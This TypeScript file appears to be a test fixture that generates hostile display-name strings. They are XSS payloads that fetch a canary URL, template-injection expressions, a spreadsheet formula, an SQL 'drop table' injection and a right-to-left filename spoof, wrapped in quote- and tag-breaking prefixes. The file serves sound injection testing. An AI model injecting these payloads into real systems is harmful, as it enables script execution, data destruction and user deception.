/** What would run or fetch something if a name were taken for anything but text. */
const bare = (url: string): readonly string[] => [
  `<script>fetch('${url}')</script>`,
  `<img src=x onerror="fetch('${url}')">`,
  `<img src="${url}">`,
  `<svg onload="fetch('${url}')"><image href="${url}"/></svg>`,
  `<iframe src="${url}"></iframe>`,
  `<link rel=stylesheet href="${url}">`,
  `<style>*{background:url(${url})}</style>`,
  `<base href="${url}">`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<a href="javascript:fetch('${url}')" autofocus onfocus="fetch('${url}')">x</a>`,
  `<details open ontoggle="fetch('${url}')">`,
  `<video><source onerror="fetch('${url}')"></video>`,
  `<object data="${url}"></object>`,
  `<input autofocus onfocus="fetch('${url}')">`,
  `javascript:fetch('${url}')`,
  `{{constructor.constructor("fetch('${url}')")()}} \${fetch('${url}')}`,
  `{{name}} {{count}} $t(Undo)`,
  `url(${url})`,
  '=HYPERLINK("http://x","y")',
  `'; drop table customers; --`,
]

const around: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `]]>--></title></textarea>${text}`,
  (text) => `مكتبة الميناء ‮gnp.exe‬ ${text}`,
  (text) => `Donaudampfschifffahrtselektrizitätenhauptbetriebswerk 👩‍👩‍👧‍👦 Z̷͝a̷l̷g̷o̷ ${text}`,
]

/** A hundred names that nobody should bear; whatever of them gets through asks for the address. */
export const hostileTexts = (url: string): readonly string[] =>
  around.flatMap((wrap) => bare(url).map((text) => wrap(text)))
